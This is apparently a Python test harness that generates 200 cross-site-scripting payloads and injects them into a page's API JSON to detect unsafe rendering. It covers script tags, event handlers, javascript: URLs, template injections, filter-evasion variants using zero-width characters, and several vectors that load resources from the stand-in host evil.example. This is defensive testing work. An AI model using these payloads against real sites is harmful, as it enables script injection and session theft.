"""Words that would be a program if a page took them for one: each says that it ran."""

from __future__ import annotations

import json
from html import escape
from urllib.parse import quote

HIT = "window.__hit=(window.__hit||'')+'{n} '"
# A page, an attribute, an address, a style, an SVG, a template, and what ends each of them.
VECTORS = (
    "<script>{hit}</script>", "</script><script>{hit}</script>", "<ScRiPt>{hit}</sCrIpT>",
    "<script\n>{hit}</script\n>", "<script/x>{hit}</script>", "<svg><script>{hit}</script></svg>",
    "<img src=x onerror=\"{hit}\">", "<img src=x onerror={hit}>", "<IMG SRC=x OnErRoR=\"{hit}\">",
    "\"><img src=x onerror=\"{hit}\">", "'><img src=x onerror=\"{hit}\">",
    "</textarea><img src=x onerror=\"{hit}\">", "</title><img src=x onerror=\"{hit}\">",
    "</style><img src=x onerror=\"{hit}\">", "--><img src=x onerror=\"{hit}\">",
    "]]><img src=x onerror=\"{hit}\">", "<svg onload=\"{hit}\">", "<svg/onload=\"{hit}\">",
    "<svg><animate onbegin=\"{hit}\" attributeName=x dur=1s>", "<body onload=\"{hit}\">",
    "<iframe srcdoc=\"<script>parent.{hit}</script>\"></iframe>",
    "<iframe src=\"javascript:parent.{hit}\"></iframe>",
    "<object data=\"javascript:{hit}\"></object>",
    "<embed src=\"javascript:{hit}\">", "<a href=\"javascript:{hit}\">x</a>",
    "<form action=\"javascript:{hit}\"><button autofocus>x</button></form>",
    "<input autofocus onfocus=\"{hit}\">", "<details open ontoggle=\"{hit}\">",
    "<video><source onerror=\"{hit}\"></video>", "<audio src=x onerror=\"{hit}\"></audio>",
    "<marquee onstart=\"{hit}\">", "<math><mtext><img src=x onerror=\"{hit}\"></mtext></math>",
    "<style>@import 'http://evil.example/{n}';</style>",
    "<link rel=stylesheet href=//evil.example/{n}>",
    "<base href=//evil.example/{n}>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/{n}\">",
    "javascript:{hit}", "data:text/html,<script>{hit}</script>",
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}", "#{{{js}}}", "<%= {js} %>", "{{@html '<img src=x onerror={hit}>'}}", "';{hit};//",
    "\";{hit};//", "\\';{hit};//", "`;{hit};//", "</p><template><script>{hit}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={hit}>\">", "url(javascript:{hit})",
)  # fmt: skip
COUNT = 200


def payloads() -> list[str]:
    """As they are, escaped once, as part of an address, and with what some cleaners drop."""
    made = []
    for n in range(COUNT):
        vector, how = VECTORS[n % len(VECTORS)], n // len(VECTORS)
        hit = HIT.format(n=n)
        text = vector.format(hit=hit, n=n, js=hit.replace("'", ""))
        made.append((text, escape(text), quote(text), _broken(text))[how])
    return made


def _broken(text: str) -> str:
    """NUL, a soft hyphen and blanks without a width, where a filter might look for a word."""
    odd = {"<": "<\u200b", "script": "scr\u00adipt", "on": "o\u200dn", "java": "java\t"}
    for word, other in odd.items():
        text = text.replace(word, other)
    return text


# Every text that a page is told, with some of them after it: a dozen each, in turn.
PLANT = """
window.__csp = [];
addEventListener("securitypolicyviolation", one => window.__csp.push(one.violatedDirective));
{
  const all = PAYLOADS, each = 12;
  let next = 0;
  const prose = text => / /.test(text.trim()) && !/^\\d{4}-\\d\\d-\\d\\d/.test(text);
  const some = () => Array.from({length: each}, () => all[next++ % all.length]).join(" ");
  const spoilt = value => {
    if (typeof value === "string") return prose(value) ? `${value} ${some()}` : value;
    if (Array.isArray(value)) return value.map(spoilt);
    if (value === null || typeof value !== "object") return value;
    return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, spoilt(one)]));
  };
  const {parse} = JSON;
  JSON.parse = (...said) => spoilt(parse(...said));
  const {json} = Response.prototype;
  Response.prototype.json = async function () {
    const found = await json.call(this);
    return new URL(this.url).pathname.startsWith("/api/") ? spoilt(found) : found;
  };
}
"""


def plant() -> str:
    """A script that runs before the page's own."""
    return PLANT.replace("PAYLOADS", json.dumps(payloads()))
